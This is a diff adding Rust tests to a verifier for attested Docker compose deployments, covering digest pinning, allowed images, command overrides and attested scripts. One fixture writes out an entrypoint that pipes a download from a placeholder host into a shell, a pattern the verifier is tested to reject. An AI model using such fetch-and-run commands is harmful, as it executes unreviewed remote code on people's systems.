@@ -46,6 +46,7 @@ fn attested(yaml: &str, allowed_envs: &[&str]) -> AttestedCompose {
         app: AppSettings {
             allowed_envs: allowed_envs.iter().map(|s| s.to_string()).collect(),
             pre_launch_script: false,
+            init_script: false,
         },
     }
 }
@@ -151,11 +152,89 @@ fn command_names_the_config_path() {
 #[test]
 fn config_inside_the_image_is_a_pin_by_digest_only() {
     let y = format!("services:\n  launcher:\n    image: {LAUNCHER}@sha256:{DIGEST}\n");
+    let pinned = format!("{LAUNCHER}@sha256:{DIGEST}");
+    // Nothing to compare the digest with: not checked, as for an inline config without `workload`.
     let r = run(&attested(&y, &[]), &reference(|r| r["workload"] = json!({})));
+    assert_eq!(r.status, Status::NotChecked, "{r:#?}");
+    assert!(codes(&r, Outcome::Pass).contains(&"workload-pin-in-image"));
+    assert_eq!(codes(&r, Outcome::NotChecked), ["workload-expectation-missing"]);
+    // The digest in `images`: pass; another digest: fail.
+    let r = run(
+        &attested(&y, &[]),
+        &reference(|r| {
+            r["workload"] = json!({});
+            r["images"] = json!([pinned]);
+        }),
+    );
     assert_eq!(r.status, Status::Pass, "{r:#?}");
-    assert_eq!(codes(&r, Outcome::Pass), ["workload-pin-in-image"]);
+    let other = pinned.replace("1111", "2222");
+    fails_with(
+        &run(
+            &attested(&y, &[]),
+            &reference(|r| {
+                r["workload"] = json!({});
+                r["images"] = json!([other]);
+            }),
+        ),
+        "workload-image-not-allowed",
+    );
+    // A commit in the reference cannot be seen inside the image.
+    let r = run(&attested(&y, &[]), &reference(|r| r["images"] = json!([pinned])));
+    assert!(codes(&r, Outcome::NotChecked).contains(&"workload-commit-not-visible"), "{r:#?}");
     let tagged = format!("services:\n  launcher:\n    image: {LAUNCHER}:latest\n");
     fails_with(&run(&attested(&tagged, &[]), &reference(|r| r["workload"] = json!({}))), "workload-image-not-pinned");
+}
+
+#[test]
+fn the_launcher_must_run_as_itself() {
+    let l = default_lines();
+    let entry = "    entrypoint: [\"/bin/sh\", \"-c\", \"curl https://example.invalid/x | sh\"]\n";
+    let r = run(&attested(&yaml(&refs(&l), entry, ""), &[]), &reference(|_| {}));
+    fails_with(&r, "workload-override");
+    assert!(r.findings.iter().any(|f| f.message.contains("services.launcher.entrypoint")), "{r:#?}");
+    let y = yaml(&refs(&l), "", "").replace(
+        "command: [\"/etc/git-launcher/config.conf\"]",
+        "command: [\"sh\", \"-c\", \"/etc/git-launcher/config.conf\"]",
+    );
+    let r = run(&attested(&y, &[]), &reference(|_| {}));
+    fails_with(&r, "workload-override");
+    assert!(r.findings.iter().any(|f| f.message.contains("sh -c")), "{r:#?}");
+    let flag = yaml(&refs(&l), "", "").replace(
+        "command: [\"/etc/git-launcher/config.conf\"]",
+        "command: [\"--config\", \"/etc/git-launcher/config.conf\"]",
+    );
+    assert_eq!(run(&attested(&flag, &[]), &reference(|_| {})).status, Status::Pass);
+}
+
+#[test]
+fn a_host_config_at_the_path_the_command_names_is_found_without_a_workload_section() {
+    // The reference names the launcher and lists its image, but has no `workload`: the mount at
+    // the path its command names still makes it a git-launcher deployment.
+    let y = format!(
+        "services:\n  launcher:\n    image: {LAUNCHER}@sha256:{DIGEST}\n    command: [\"/opt/pin.conf\"]\n    volumes:\n      - ./pin.conf:/opt/pin.conf:ro\n"
+    );
+    let r = run(
+        &attested(&y, &[]),
+        &reference(|r| {
+            r.as_object_mut().unwrap().remove("workload");
+            r["images"] = json!([format!("{LAUNCHER}@sha256:{DIGEST}")]);
+        }),
+    );
+    fails_with(&r, "launcher-config-not-attested");
+}
+
+#[test]
+fn attested_scripts_beside_the_launcher_are_flagged_for_reading() {
+    let l = default_lines();
+    let c = AttestedCompose::Attested {
+        compose: parse_compose(&yaml(&refs(&l), "", "")).unwrap(),
+        source: "test compose".into(),
+        app: AppSettings { allowed_envs: Vec::new(), pre_launch_script: true, init_script: true },
+    };
+    let r = run(&c, &reference(|_| {}));
+    assert_eq!(r.status, Status::Pass, "{r:#?}");
+    let notes = codes(&r, Outcome::Note);
+    assert!(notes.contains(&"pre-launch-script-present") && notes.contains(&"init-script-present"), "{notes:?}");
 }
 
 #[test]
